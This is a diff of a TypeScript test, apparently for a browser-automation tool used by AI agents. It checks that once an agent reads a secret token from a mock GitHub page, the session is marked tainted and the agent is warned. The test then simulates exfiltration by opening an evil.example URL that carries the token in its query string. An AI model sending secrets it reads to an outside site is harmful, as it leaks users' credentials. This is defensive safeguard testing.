@@ -86,13 +86,28 @@ for (const [how, { page, click }] of Object.entries(ways)) {
     });
 
     test('taints the session: what it showed cannot then be carried to another site unasked', async () => {
-      await mcp.call('new_page', { url: gh.url('github.com', '/acme') });
-      if (click) await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Reveal') });
+      const told: string[] = [];
+      const call = async (name: string, args: Record<string, unknown> = {}) => {
+        const { text } = await mcp.call(name, args);
+        told.push(text);
+        return text;
+      };
+      await call('new_page', { url: gh.url('github.com', '/acme') });
+      if (click) await call('click', { ref: refOf(await call('take_snapshot'), 'Reveal') });
       // The agent reads the token off the page the click filled.
-      await waitFor('the token on the page', async () =>
-        (await mcp.call('take_snapshot')).text.includes(token),
+      await waitFor('the token on the page', async () => (await call('take_snapshot')).includes(token));
+      const status = await call('browser_status');
+      // Told once, with a result, why its next data-carrying actions will ask; browser_status says how it was read.
+      const notes = told.filter((text) =>
+        /Note: the browser loaded or fetched the sensitive https:\/\/github\.com:\d+ \(no tool result showed it\)/.test(
+          text,
+        ),
       );
-      const status = (await mcp.call('browser_status')).text;
+      assert.equal(notes.length, 1, told.join('\n---\n'));
+      assert.match(
+        status,
+        /tainted by reading: https:\/\/github\.com:\d+ \(loaded or fetched by the browser/,
+      );
       // Carried off in a tab of its own: no earlier action of the first tab answers for its requests.
       const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
       assert.deepEqual(
